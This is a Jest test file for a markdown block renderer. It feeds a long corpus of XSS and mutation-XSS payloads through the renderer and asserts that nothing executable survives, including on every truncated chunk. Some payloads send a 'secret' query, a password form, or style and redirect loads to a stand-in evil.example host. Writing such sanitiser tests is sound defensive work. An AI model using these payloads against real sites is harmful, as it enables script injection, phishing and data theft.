/** @jest-environment jsdom */
import { renderBlock } from './render-block';

/** What has been used to get scripts, requests or forged pages out of markdown renderers and sanitisers. */
const CORPUS = [
  ...['<img src=x onerror=alert(1)>', '<img/src/onerror=alert(1)>', '<img src="x` `<script>alert(1)</script>"` `>', '<image src=x onerror=alert(1)>'],
  ...['<svg/onload=alert(1)>', '<svg><script>alert(1)</script></svg>', '<svg><animate onbegin=alert(1) attributeName=x dur=1s>', '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)/>#x">'],
  ...['<svg><a xlink:href="javascript:alert(1)"><text x=1 y=9>x</text></a></svg>', '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>">', '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">'],
  ...['<math><maction actiontype="statusline#http://evil" xlink:href="javascript:alert(1)">x</maction></math>', '<math><mi xlink:href="data:text/html,<script>alert(1)</script>">x</mi></math>'],
  ...['<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">', '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>'],
  ...['<a href="javascript:alert(1)">x</a>', '<a href=" javascript:alert(1)">x</a>', '<a href="jav&#x09;ascript:alert(1)">x</a>', '<a href="JaVaScRiPt:alert(1)">x</a>', '<a href="&#106;avascript:alert(1)">x</a>'],
  ...['[x](javascript:alert(1))', '[x](JAVASCRIPT:alert(1))', '[x](java\nscript:alert(1))', '[x](&#x6A;avascript:alert(1))', '[x](javascript&colon;alert(1))', '[x](\u0001javascript:alert(1))', '[x](<javascript:alert(1)>)'],
  ...['[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)', '[x](vbscript:msgbox(1))', '[x](file:///etc/passwd)', '[x](blob:https://a/b)', '[x](view-source:https://a)', '<javascript:alert(1)>', '<data:text/html,x>'],
  ...['[x]: javascript:alert(1)\n\n[x]', '[a]: data:text/html,x "t"\n\n![a]', '![x](javascript:alert(1))', '![x](https://evil.example/?q=secret)', '![x](//evil.example/p.png)', '![x](data:image/svg+xml,<svg onload=alert(1)>)'],
  ...['![x"onerror="alert(1)](https://a.b/c)', '[x](https://a.b "onmouseover=alert(1)")', '[x](https://a.b"onclick="alert(1))', '<https://a.b/"onclick="alert(1)>'],
  ...['<iframe src=javascript:alert(1)>', '<iframe srcdoc="<script>alert(1)</script>">', '<object data=javascript:alert(1)>', '<embed src=javascript:alert(1)>', '<frameset onload=alert(1)>', '<portal src=https://evil.example>'],
  ...['<form action=https://evil.example><input name=password><button>Sign in</button></form>', '<input onfocus=alert(1) autofocus>', '<button formaction=javascript:alert(1)>x</button>', '<select autofocus onfocus=alert(1)>', '<textarea onfocus=alert(1) autofocus>'],
  ...['<video src=x onerror=alert(1)>', '<audio src=x onerror=alert(1)>', '<video><source onerror=alert(1)>', '<details open ontoggle=alert(1)>', '<marquee onstart=alert(1)>', '<body onload=alert(1)>', '<meter onmouseover=alert(1)>0</meter>'],
  ...['<style>@import "https://evil.example/x.css"</style>', '<link rel=stylesheet href=https://evil.example/x.css>', '<meta http-equiv=refresh content="0;url=https://evil.example">', '<base href=https://evil.example/>', '<p style="background:url(https://evil.example/)">x</p>'],
  ...['<template><script>alert(1)</script></template>', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">', '<title><img src=x onerror=alert(1)></title>', '<textarea></textarea><img src=x onerror=alert(1)>', '<xmp><img src=x onerror=alert(1)></xmp>'],
  ...['<div id=location>x</div><a name=cookie>y</a>', '<a id=__proto__>x</a>', '<form id=x><input name=attributes></form>', '<img name=getElementById>'],
  ...['<scr<script>ipt>alert(1)</scr</script>ipt>', '<<script>alert(1)//<</script>', '<script\u0000>alert(1)</script>', '<!--><img src=x onerror=alert(1)>-->', '<![CDATA[><img src=x onerror=alert(1)>]]>', '<?xml <img src=x onerror=alert(1)>?>'],
  ...['```"><img src=x onerror=alert(1)>\ncode\n```', '```js" onmouseover="alert(1)\ncode\n```', '`<img src=x onerror=alert(1)>`', '~~~html\n<script>alert(1)</script>\n~~~', '$<img src=x onerror=alert(1)>$', '$$\\href{javascript:alert(1)}{x}$$'],
  ...['| a |\n|---|\n| <img src=x onerror=alert(1)> |', '- [x] <script>alert(1)</script>', '> <iframe src=javascript:alert(1)>', '[^1]: <script>alert(1)</script>\n\n[^1]', '# <svg onload=alert(1)>', '**<img src=x onerror=alert(1)>**'],
];

const FORBIDDEN = /^(?:script|svg|math|iframe|object|embed|style|link|meta|base|form|textarea|select|video|audio|source|portal|frameset|template|image)$/i;

/** What of a rendered block could run, load, be sent or take over a name of the page. */
function dangersIn(block: DocumentFragment): string[] {
  return [...block.querySelectorAll('*')].flatMap((element) => [
    ...(FORBIDDEN.test(element.tagName) ? [element.tagName] : []),
    ...[...element.attributes].filter((attribute) => isDanger(element, attribute)).map(({ name, value }) => `${element.tagName} ${name}=${value}`),
  ]);
}

function isDanger(element: Element, { name, value }: Attr): boolean {
  if (name.startsWith('on') || /^(?:style|srcset|srcdoc|id|name|action|formaction|xlink:href|background)$/.test(name)) return true;
  // Pictures that are part of the text itself load nothing and, as images, run nothing.
  if (name === 'src') return !(element.tagName === 'IMG' && /^data:image\//.test(value));
  return name === 'href' && !/^(?:https?:|mailto:)/.test(value);
}

describe('a hostile answer', () => {
  it.each(CORPUS)('runs, loads and forges nothing when it is whole: %j', (source) => {
    for (const isOpen of [false, true]) expect(dangersIn(renderBlock(source, '', isOpen))).toEqual([]);
  });

  it('runs, loads and forges nothing at any point where a chunk may end', () => {
    const found = CORPUS.flatMap((source) =>
      Array.from(source, (_, end) => source.slice(0, end + 1)).flatMap((half) => dangersIn(renderBlock(half, '', true)).map((danger) => [half, danger])),
    );
    expect(found).toEqual([]);
  });

  it('keeps marks that turn text around, and what nobody sees, inside the text', () => {
    const holder = document.createElement('div');
    holder.append(renderBlock('a \u202Egnp.exe\u202C \u200B\u200D \u001b[31m [\u202Ehttps://a\u202C](https://b.example)', '', false));
    expect(dangersIn(renderBlock(holder.textContent ?? '', '', false))).toEqual([]);
    expect(holder.querySelector('a')?.getAttribute('href')).toBe('https://b.example');
  });
});
